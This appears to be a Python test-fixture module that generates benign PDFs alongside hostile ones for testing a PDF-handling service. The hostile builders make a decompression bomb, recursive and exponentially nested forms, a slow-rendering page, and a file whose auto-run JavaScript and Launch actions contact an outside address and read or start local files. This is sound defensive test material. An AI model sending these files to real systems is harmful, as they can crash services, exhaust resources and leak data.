"""PDFs to look at: sound ones by reportlab, and what a hostile requester would send."""

from __future__ import annotations

import zlib
from io import BytesIO
from typing import TYPE_CHECKING, Final, Literal

import pikepdf
from reportlab.pdfgen.canvas import Canvas

if TYPE_CHECKING:
    from collections.abc import Sequence

A4: Final = (595.0, 842.0)
MIB: Final = 1024**2
GIB: Final = 1024**3


def written(lines: Sequence[str] = ("Quarterly invoice",), size: tuple[float, float] = A4) -> bytes:
    """Return a PDF with a page for each line, which stands at its top left, 24 points high."""
    file = BytesIO()
    canvas = Canvas(file, pagesize=size)
    for line in lines:
        canvas.setFont("Helvetica", 24)
        canvas.drawString(72, size[1] - 72, line)
        canvas.showPage()
    canvas.save()
    return file.getvalue()


def with_content(stream: bytes, *, media_box: Sequence[float] = (0, 0, 595, 842)) -> pikepdf.Pdf:
    """Return a PDF of one page with this content stream."""
    pdf = pikepdf.Pdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0].obj
    page.MediaBox = pikepdf.Array(media_box)
    page.Contents = pdf.make_stream(stream)
    return pdf


def saved(pdf: pikepdf.Pdf) -> bytes:
    """Return the bytes of a PDF."""
    file = BytesIO()
    pdf.save(file, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return file.getvalue()


def encrypted(user: str = "secret", *, revision: Literal[3, 4, 6] = 6) -> bytes:
    """Return a PDF that opens with a password only, by one of the standard's handlers."""
    pdf = pikepdf.open(BytesIO(written()))
    file = BytesIO()
    lock = pikepdf.Encryption(
        owner="owner", user=user, R=revision, aes=revision > 3, metadata=revision > 3
    )
    pdf.save(file, encryption=lock)
    return file.getvalue()


def long(pages: int) -> bytes:
    """Return a PDF with so many pages, all the same."""
    pdf = pikepdf.open(BytesIO(written(["The same page"])))
    first = pdf.pages[0].obj
    kids = pikepdf.Array()
    for _ in range(pages):
        kids.append(pdf.make_indirect(pikepdf.Dictionary(dict(first.items()))))
    pdf.Root.Pages.Kids, pdf.Root.Pages.Count = kids, pages
    return saved(pdf)


def flate_bomb(inflated: int) -> bytes:
    """Return a PDF whose page has a content stream that becomes so many bytes, all spaces."""
    pressed = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = pressed.compress(b" " * MIB) + pressed.flush(zlib.Z_FULL_FLUSH)
    sums = (1 + 32 * inflated) % 65521, (inflated + 16 * inflated * (inflated + 1)) % 65521
    checksum = (sums[1] << 16 | sums[0]).to_bytes(4, "big")  # Adler-32, as RFC 1950 has it
    pdf = with_content(b"")
    bomb = pikepdf.Stream(pdf, b"\x78\xda" + block * (inflated // MIB) + b"\x03\0" + checksum)
    bomb.Filter = pikepdf.Name.FlateDecode
    pdf.pages[0].obj.Contents = pdf.make_indirect(bomb)
    return saved(pdf)


def recursive() -> bytes:
    """Return a PDF with a form that draws itself, and two that draw each other."""
    pdf = with_content(b"BT ET /Self Do /One Do")
    forms = {
        "Self": b"/Self Do /Self Do",
        "One": b"/Other Do /Other Do",
        "Other": b"/One Do /One Do",
    }
    named = pikepdf.Dictionary()
    for name, stream in forms.items():
        form = pdf.make_stream(stream)
        form.Type, form.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
        form.BBox = pikepdf.Array([0, 0, 595, 842])
        named[f"/{name}"] = form
    for known in list(named.values()):
        known.Resources = pikepdf.Dictionary(XObject=named)
    pdf.pages[0].obj.Resources = pikepdf.Dictionary(XObject=named)
    return saved(pdf)


def nested(deep: int, wide: int) -> bytes:
    """Return a PDF of forms that draw the next one `wide` times: wide to the power of deep."""
    pdf = with_content(b"/F0 Do")
    last = pdf.make_stream(b"0 0 400 400 re f 0 0 m 500 500 l S")
    forms = [last]
    for _ in range(deep):
        form = pdf.make_stream(b"/Next Do " * wide)
        named = pikepdf.Dictionary(Next=forms[-1])
        form.Resources = pikepdf.Dictionary(XObject=named)
        forms.append(form)
    for form in forms:
        form.Type, form.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
        form.BBox = pikepdf.Array([0, 0, 595, 842])
    pdf.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F0=forms[-1]))
    return saved(pdf)


def active(address: str, path: str) -> bytes:
    """Return a PDF full of things that would happen in a careless reader.

    Args:
        address: That scripts, links, forms and pictures from outside would call.
        path: A file that it would read, embed or start.
    """
    pdf = pikepdf.open(BytesIO(written()))
    script = f"app.launchURL('{address}', true); this.submitForm('{address}');"
    java = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=script)
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=path)
    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address)
    distant = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=path, D=pikepdf.Array([0]))
    java.Next = pikepdf.Array([launch, link, distant])
    pdf.Root.OpenAction = java
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["go", java]))
    )
    page = pdf.pages[0].obj
    page.AA = pikepdf.Dictionary(O=java, C=launch)
    outside = pdf.make_stream(b"")
    outside.Type, outside.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    outside.Width = outside.Height = 8
    outside.ColorSpace, outside.BitsPerComponent = pikepdf.Name.DeviceGray, 8
    outside.F = path  # ISO 32000-1, 7.3.8: the data of a stream may be another file
    foreign = pikepdf.Dictionary(  # a font that the file does not bring
        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.TrueType, BaseFont=pikepdf.Name.Arial
    )
    page.Resources.XObject = pikepdf.Dictionary(Out=outside)
    page.Resources.Font.Foreign = foreign
    more = b"q 50 0 0 50 0 0 cm /Out Do Q BT /Foreign 12 Tf 72 300 Td (From outside) Tj ET"
    page.Contents = pikepdf.Array([page.Contents, pdf.make_stream(more)])
    page.Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=pikepdf.Array([0, 0, 595, 842]),
                A=action,
            )
            for action in (java, launch, link, distant)
        ]
    )
    return saved(pdf)


def after(first: bytes, second: bytes) -> bytes:
    """Return the pages of one PDF and then those of another."""
    pdf = pikepdf.open(BytesIO(first))
    with pikepdf.open(BytesIO(second)) as more:
        pdf.pages.extend(more.pages)
        return saved(pdf)


def slow() -> bytes:
    """Return a PDF whose page takes minutes: many large transparent shapes, each on its own."""
    pdf = with_content(b"/Clear gs\n" + b"1 0 0 RG 60 w 0 0 m 9 999 999 9 595 842 c S\n" * 60_000)
    clear = pikepdf.Dictionary(CA=0.1, BM=pikepdf.Name.Luminosity)
    states = pikepdf.Dictionary(Clear=clear)
    pdf.pages[0].obj.Resources = pikepdf.Dictionary(ExtGState=states)
    return saved(pdf)
